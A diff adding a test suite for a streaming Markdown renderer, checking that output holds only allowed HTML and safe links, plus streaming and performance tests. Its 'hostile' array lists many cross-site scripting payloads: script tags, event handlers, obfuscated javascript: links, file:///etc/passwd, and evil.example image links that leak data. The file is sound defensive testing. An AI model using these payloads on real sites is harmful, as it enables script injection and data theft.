@@ -1,0 +1,325 @@
+import fc from "fast-check";
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import { en } from "../../words/en";
+import { WordsGiven } from "../../words/words";
+import { Block } from "./block";
+import { advance, noSplit, type Split } from "./blocks";
+import { MarkdownLinksContext } from "./links";
+import { Markdown } from "./markdown";
+
+const draw = (text: string, live = false): string =>
+  renderToStaticMarkup(
+    <WordsGiven words={en}>
+      <MarkdownLinksContext value={{ openPath: () => undefined }}>
+        <Markdown text={text} live={live} />
+      </MarkdownLinksContext>
+    </WordsGiven>,
+  );
+
+const drawSplit = (split: Split): string =>
+  renderToStaticMarkup(
+    <WordsGiven words={en}>
+      {[...split.final, ...split.open].map((block, index) => (
+        <Block key={index} block={block} finished />
+      ))}
+    </WordsGiven>,
+  );
+
+/** Elements and attributes that are ever made; anything else in the markup is a leak. */
+const elements = new Set(
+  "div p h3 h4 h5 strong em del code br a button span ul ol li table thead tbody tr th td blockquote hr figure figcaption pre mark svg path rect circle line polyline".split(
+    " ",
+  ),
+);
+const tagPattern = /<\/?([a-z][a-z0-9-]*)((?:\s+[a-zA-Z:-]+(?:="[^"]*")?)*)\s*\/?>/g;
+
+function check(markup: string): void {
+  const rest = markup.replace(tagPattern, (_, name: string, attributes: string) => {
+    expect(elements, markup).toContain(name);
+    expect(attributes, markup).not.toMatch(/\son[a-z]+=/i);
+    for (const [, value = ""] of attributes.matchAll(
+      /\s(?:href|src|srcset|action|formaction|xlink:href|data)="([^"]*)"/gi,
+    )) {
+      expect(value, markup).toMatch(/^(?:https?:\/\/|mailto:)/);
+    }
+    return "";
+  });
+  expect(rest, markup).not.toMatch(/[<>]/);
+}
+
+const hostile: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil/x.js></SCRIPT>",
+  "<img src=x onerror=alert(1)>",
+  "text <img src=x onerror=alert(1)> text",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<iframe src=javascript:alert(1)></iframe>",
+  "<object data=javascript:alert(1)>",
+  "<embed src=//evil>",
+  "<form action=//evil><input name=a></form>",
+  "<a href=javascript:alert(1)>x</a>",
+  "<style>*{background:url(//evil)}</style>",
+  "<link rel=stylesheet href=//evil>",
+  "<meta http-equiv=refresh content='0;url=//evil'>",
+  "<base href=//evil>",
+  "<video src=//evil autoplay>",
+  "<audio src=//evil>",
+  "<details open ontoggle=alert(1)>",
+  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+  "<!--><script>alert(1)</script>-->",
+  "<!-- unclosed <script>alert(1)</script>",
+  "<![CDATA[<script>alert(1)</script>]]>",
+  "<?php echo 1 ?>",
+  "<div>\n\n<script>alert(1)</script>\n\n</div>",
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](java\tscript:alert(1))",
+  "[x](<java\nscript:alert(1)>)",
+  "[x](&#106;avascript:alert(1))",
+  "[x](&#x6A;avascript:alert(1))",
+  "[x](javascript&colon;alert(1))",
+  "[x](java&Tab;script:alert(1))",
+  "[x](java&NewLine;script:alert(1))",
+  "[x](\u0001javascript:alert(1))",
+  "[x](\u200bjavascript:alert(1))",
+  "[x](\u202ejavascript:alert(1))",
+  "[x](<  javascript:alert(1)>)",
+  "[x](javascript\\:alert(1))",
+  "[x](javascript%3Aalert(1))",
+  "[x](vbscript:msgbox(1))",
+  "[x](data:text/html,<script>alert(1)</script>)",
+  "[x](data:text/html;base64,PHNjcmlwdD4=)",
+  "[x](file:///etc/passwd)",
+  "[x](blob:https://a/b)",
+  "[x](ftp://a/b)",
+  "[x](ws://a/b)",
+  "[x](about:blank)",
+  "[x](//evil.example/x)",
+  "[x](\\\\evil\\share)",
+  "[x](/\\evil.example)",
+  "[x](https://good.example@evil.example/)",
+  "[x](https://user:pass@evil.example/)",
+  "[x](http:evil)",
+  "[x](https:///)",
+  '[x](https://a.example "title\\" onmouseover=alert(1)")',
+  '[x](https://a.example/"onmouseover=alert(1))',
+  "[a]: javascript:alert(1)\n\n[a] [x][a]",
+  "[a]: <java\u0000script:alert(1)>\n\n[a]",
+  "<javascript:alert(1)>",
+  '<https://a.example/"><script>alert(1)</script>>',
+  "![x](javascript:alert(1))",
+  "![x](https://evil.example/pixel.png?data=secret)",
+  "![](//evil.example/p.png)",
+  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+  "![x][a]\n\n[a]: https://evil.example/p.png",
+  "[![x](https://evil.example/p.png)](javascript:alert(1))",
+  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
+  '```"><script>alert(1)</script>\ncode\n```',
+  "`<script>alert(1)</script>`",
+  "    <script>alert(1)</script>",
+  "# <script>alert(1)</script>",
+  "> <img src=x onerror=alert(1)>",
+  "- <img src=x onerror=alert(1)>\n- [ ] <svg onload=alert(1)>",
+  "| <script> | [x](javascript:a) |\n|---|---|\n| <img src=x onerror=a> | ![](http://e/x) |",
+  '|a|\n|:-:" onload=alert(1)|\n|b|',
+  "**<b onclick=alert(1)>x</b>**",
+  "a\u0000b<\u0000script>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "&#60;script&#62;alert(1)&#60;/script&#62;",
+  "[constructor]: javascript:1\n\n[constructor] [__proto__] [toString]",
+  "[__proto__]: javascript:alert(1)\n\n[__proto__]",
+  "&constructor; &__proto__; &toString;",
+  "$(alert(1)) {{constructor.constructor('alert(1)')()}} ${alert(1)}",
+  "[x](https://a.example/\u202etxt.exe)",
+  `${"> ".repeat(3_000)}<script>alert(1)</script>`,
+  `${"- ".repeat(400)}<script>alert(1)</script>`,
+  `${"[".repeat(5_000)}x${"](javascript:a)".repeat(50)}`,
+  "*a".repeat(5_000),
+];
+
+describe("hostile markdown", () => {
+  test.each(hostile.map((text) => [text.length > 60 ? `${text.slice(0, 60)}…` : text, text]))(
+    "%j makes no HTML, loads nothing, runs nothing",
+    (_, text) => {
+      check(draw(text));
+      check(draw(text, true));
+      for (const part of [0.3, 0.6, 0.9]) check(draw(text.slice(0, Math.floor(text.length * part)), true));
+    },
+  );
+
+  test("HTML is shown as it was written", () => {
+    expect(draw("a <b>bold</b> c")).toContain("a &lt;b&gt;bold&lt;/b&gt; c");
+    expect(draw("<div>\nx\n</div>")).toContain("&lt;div&gt;\nx\n&lt;/div&gt;");
+  });
+
+  test("any text makes only known elements", () => {
+    const pieces = [
+      "<",
+      ">",
+      "a",
+      "[",
+      "](",
+      ")",
+      "!",
+      "`",
+      "```\n",
+      "*",
+      "_",
+      "|",
+      "-",
+      "\n",
+      "\n\n",
+      "> ",
+      "- ",
+      "javascript:",
+      "https://x.y",
+      "&#60;",
+      "&lt;",
+      '"',
+      "\\",
+      "script",
+      " onload=1",
+      "<!--",
+      "[a]: ",
+      "\u202e",
+      "\u0000",
+    ];
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 40 }), fc.boolean(), (parts, live) =>
+        check(draw(parts.join(""), live)),
+      ),
+      { numRuns: 400 },
+    );
+  });
+
+  test("a paragraph of a hundred thousand marks is read in time", () => {
+    const start = performance.now();
+    check(draw("_a_".repeat(33_000)));
+    expect(performance.now() - start).toBeLessThan(2_000);
+  });
+});
+
+describe("links and pictures", () => {
+  test("a web link opens elsewhere and tells nobody where it came from", () => {
+    const markup = draw("[words](https://a.example/b?c=d)");
+    expect(markup).toContain('href="https://a.example/b?c=d"');
+    expect(markup).toContain('rel="noopener noreferrer nofollow"');
+    expect(markup).toContain('target="_blank"');
+  });
+  test("words that look like another host are followed by the real one", () => {
+    expect(draw("[https://bank.example/login](https://evil.example/)")).toContain("(evil.example)");
+    expect(draw("[www.a.example](https://a.example/x)")).not.toContain("(a.example)");
+    expect(draw("[see this](https://a.example/)")).not.toContain("(a.example)");
+  });
+  test("a path of the project is a button", () => {
+    expect(draw("[the app](src/app.ts#L12)")).toMatch(/<button[^>]*title="src\/app\.ts"/);
+    expect(draw("[the app](src/app.ts:12)")).toMatch(/<button/);
+  });
+  test("a remote picture is a link that shows host and query", () => {
+    const markup = draw("![chart](https://img.example/p.png?u=1)");
+    expect(markup).not.toContain("<img");
+    expect(markup).toContain("img.example/p.png?u=1");
+    expect(markup).toContain("chart");
+  });
+  test("direction characters in text are marked", () =>
+    expect(draw("a\u202eb")).toContain('aria-label="text direction character RLO"'));
+});
+
+const samples: readonly string[] = [
+  "# Title\n\nSome *text* with **bold** and `code`.\n\nSecond paragraph\nwith two lines.\n",
+  "1. one\n\n2. two\n\n   more of two\n\n3. three\n\nAfter.",
+  "- a\n- b\n  - c\n\n    deep\n- d\n\n\n- e\n\ntext\n\n* other list\n",
+  "```ts\nconst a = 1;\n\n\nconst b = `x`;\n```\n\nafter\n\n~~~\n```\n~~~\n",
+  "| a | b |\n|---|:-:|\n| 1 | `x|y` |\n| 2 | **z** |\n\nend",
+  "See [one] and [two][one].\n\n> quoted\n> more\nlazy\n\n> other\n\n[one]: https://one.example\n\nAnd [one] again.\n\n[one]: https://other.example",
+  "Setext\n===\n\nOther\n---\n\ntext\n---\n\n***\n\n- - -\n",
+  "<div>\n<b>x</b>\n\ny\n</div>\n\n<!-- a\n\nb -->\n\nz",
+  "a  \nb\\\nc\n\n    indented\n\n    more\n\ntext\r\nwith\r\n\r\ncarriage returns\r\n",
+  "- [ ] open\n- [x] done\n\n  with text\n\n1) paren\n2) paren\n",
+  "修复 **带参数** 的类型：\n\n1. 查找\n2. 修改 `a.ts`\n\n完成。",
+  "unclosed ```\n\n``` not fence ` here\n\n**never closed\n\n_x",
+];
+
+describe("text that arrives in pieces", () => {
+  test.each(samples.map((text) => [text]))("%j looks the same at the end, however it was cut", (text) => {
+    const expected = draw(text);
+    const everyCharacter = [...text].map((_, index) => index + 1);
+    fc.assert(
+      fc.property(
+        fc.oneof(fc.constant(everyCharacter), fc.array(fc.integer({ min: 0, max: text.length }), { maxLength: 12 })),
+        (cuts) => {
+          let split = noSplit;
+          for (const cut of [...cuts].sort((a, b) => a - b)) split = advance(split, text.slice(0, cut), true);
+          split = advance(split, text, false);
+          expect(`<div class="markdown">${drawSplit(split)}</div>`).toBe(
+            expected.replace(/<button type="button" data-link[^>]*>(.*?)<\/button>/g, "$1"),
+          );
+        },
+      ),
+      { numRuns: 40 },
+    );
+  });
+
+  test("what was called final while it arrived is what the whole text says, but for links defined later", () => {
+    for (const text of samples.filter((sample) => !sample.includes("]:"))) {
+      const whole = advance(noSplit, text, false).final.map((block) => block.raw.trimEnd());
+      let split = noSplit;
+      for (let cut = 1; cut <= text.length; cut += 1) {
+        split = advance(split, text.slice(0, cut), true);
+        const final = split.final.map((block) => block.raw.trimEnd());
+        expect(final).toEqual(whole.slice(0, final.length));
+      }
+    }
+  });
+
+  test("finished blocks stay the same objects, also at the end", () => {
+    const text = "one\n\ntwo\n\nthree\n\nfour\n\nfive";
+    const early = advance(noSplit, text.slice(0, 24), true);
+    const later = advance(early, text, true);
+    const end = advance(later, text, false);
+    expect(early.final.length).toBeGreaterThan(0);
+    for (const [index, block] of early.final.entries()) {
+      expect(later.final[index]).toBe(block);
+      expect(end.final[index]).toBe(block);
+    }
+  });
+
+  test("a link defined at the end is a link in the finished text", () => {
+    const text = "See [one].\n\nMore.\n\nMore.\n\n[one]: https://one.example";
+    let split = noSplit;
+    for (let cut = 1; cut <= text.length; cut += 3) split = advance(split, text.slice(0, cut), true);
+    expect(drawSplit(split)).not.toContain("href");
+    expect(drawSplit(advance(split, text, false))).toContain('href="https://one.example/"');
+  });
+
+  test("a long answer is read in linear time", () => {
+    const text = samples.join("\n\n").repeat(12);
+    const start = performance.now();
+    let split = noSplit;
+    for (let cut = 16; cut < text.length; cut += 16) split = advance(split, text.slice(0, cut), true);
+    expect(performance.now() - start).toBeLessThan(2_500);
+  });
+});
+
+describe("the end that is still being written", () => {
+  test.each([
+    ["text **bol", "<strong>bol</strong>"],
+    ["text **", '<p dir="auto">text</p>'],
+    ["see `code", "<code>code</code>"],
+    ["a [link](https://exa", '<p dir="auto">a link</p>'],
+    ["a [lin", '<p dir="auto">a lin</p>'],
+    ["text\n\n```", '<div class="markdown" data-live="true"><p dir="auto">text</p></div>'],
+    ["text\n\n```typ", '<div class="markdown" data-live="true"><p dir="auto">text</p></div>'],
+    ["text\n-", '<p dir="auto">text</p>'],
+    ["text\n\n#", '<div class="markdown" data-live="true"><p dir="auto">text</p></div>'],
+    ["- one\n- tw", '<li dir="auto">tw</li>'],
+    ["- one\n- [", '<ul><li dir="auto">one</li></ul>'],
+    ["| a | b |", "<th>b</th>"],
+    ["| a | b |\n|-", "<th>b</th>"],
+  ])("%j is drawn as what it becomes", (text, expected) => expect(draw(text, true)).toContain(expected));
+
+  test("a fence that is being closed shows no backticks", () =>
+    expect(draw("```\ncode\n``", true)).not.toContain("``"));
+});
